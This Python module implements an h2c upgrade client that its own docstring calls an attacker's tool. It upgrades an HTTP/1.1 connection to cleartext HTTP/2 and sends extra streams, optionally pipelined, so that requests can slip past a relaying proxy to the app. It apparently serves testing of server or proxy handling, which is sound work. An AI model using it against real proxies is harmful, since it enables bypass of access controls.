"""An attacker's ``Upgrade: h2c`` client (RFC 7540 section 3.2) over any socket.

It sends an HTTP/1.1 request asking to switch to cleartext HTTP/2; if the answer is
``101 Switching Protocols`` it speaks HTTP/2 on the same connection (the ``h2`` library,
which Hypercorn already depends on) and sends more requests as new streams. Through a proxy
that relays the upgrade, those streams reach the app directly, with headers of the client's
choosing. Every wait is bounded by the socket's timeout.
"""

from __future__ import annotations

import socket
from dataclasses import dataclass, field

import h2.config
import h2.connection
import h2.events
import h2.settings

MAX_BYTES = 1 << 20


@dataclass
class H2Response:
    status: int
    headers: dict[str, str]
    body: bytes = b""


@dataclass
class H2Request:
    path: str
    headers: dict[str, str] = field(default_factory=dict)
    method: str = "GET"
    body: bytes = b""


@dataclass
class H2CResult:
    upgrade_status: int  # 101 when the upgrade was accepted
    upgrade_head: bytes  # the HTTP/1.1 response head (and any body bytes read with it)
    responses: dict[int, H2Response] = field(default_factory=dict)  # stream id -> response


def _settings_payload(connection: h2.connection.H2Connection) -> str:
    # Already the header's value: the SETTINGS payload, base64url-encoded.
    return connection.initiate_upgrade_connection().decode()


def _send_streams(
    connection: h2.connection.H2Connection,
    host: str,
    then: list[H2Request] | None,
) -> None:
    for index, extra in enumerate(then or []):
        stream_id = 3 + 2 * index
        connection.send_headers(
            stream_id,
            [
                (":method", extra.method),
                (":scheme", "http"),
                (":authority", host),
                (":path", extra.path),
                *((name.lower(), value) for name, value in extra.headers.items()),
            ],
            end_stream=not extra.body,
        )
        if extra.body:
            connection.send_data(stream_id, extra.body, end_stream=True)


def h2c_upgrade(
    sock: socket.socket,
    host: str,
    path: str,
    *,
    headers: dict[str, str] | None = None,
    then: list[H2Request] | None = None,
    pipelined: bool = False,
) -> H2CResult:
    """``GET path`` with ``Upgrade: h2c``; after a 101, ``then``'s requests as streams 3, 5...

    ``pipelined``: the HTTP/2 preface and ``then``'s streams go out with the upgrade request
    itself, before any answer (so they race the server's handling of stream 1)."""
    connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    settings = _settings_payload(connection)
    lines = [
        f"GET {path} HTTP/1.1",
        f"Host: {host}",
        "Connection: Upgrade, HTTP2-Settings",
        "Upgrade: h2c",
        f"HTTP2-Settings: {settings}",
        *(f"{name}: {value}" for name, value in (headers or {}).items()),
    ]
    request = ("\r\n".join(lines) + "\r\n\r\n").encode()
    if pipelined:
        _send_streams(connection, host, then)
        request += connection.data_to_send()
    sock.sendall(request)
    head = b""
    while b"\r\n\r\n" not in head and len(head) < MAX_BYTES:
        chunk = sock.recv(65536)
        if not chunk:
            break
        head += chunk
    status_line = head.split(b"\r\n", 1)[0]
    status = int(status_line.split()[1]) if len(status_line.split()) > 1 else 0
    result = H2CResult(status, head)
    if status != 101:
        return result
    leftover = head.split(b"\r\n\r\n", 1)[1]
    if not pipelined:
        _send_streams(connection, host, then)
    sock.sendall(connection.data_to_send())
    wanted = {1, *(3 + 2 * i for i in range(len(then or [])))}
    pending: dict[int, H2Response] = {}
    data = leftover
    while wanted - set(result.responses):
        if not data:
            data = sock.recv(65536)
            if not data:
                break
        for event in connection.receive_data(data):
            if isinstance(event, h2.events.ResponseReceived):
                fields = {
                    (k.decode() if isinstance(k, bytes) else k): (
                        v.decode() if isinstance(v, bytes) else v
                    )
                    for k, v in event.headers
                }
                pending[event.stream_id] = H2Response(int(fields[":status"]), fields)
            elif isinstance(event, h2.events.DataReceived):
                pending[event.stream_id].body += event.data
                connection.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
            elif isinstance(event, h2.events.StreamEnded):
                result.responses[event.stream_id] = pending.pop(event.stream_id)
            elif isinstance(event, h2.events.StreamReset):
                result.responses[event.stream_id] = H2Response(0, {})
        data = b""
        sock.sendall(connection.data_to_send())
    return result
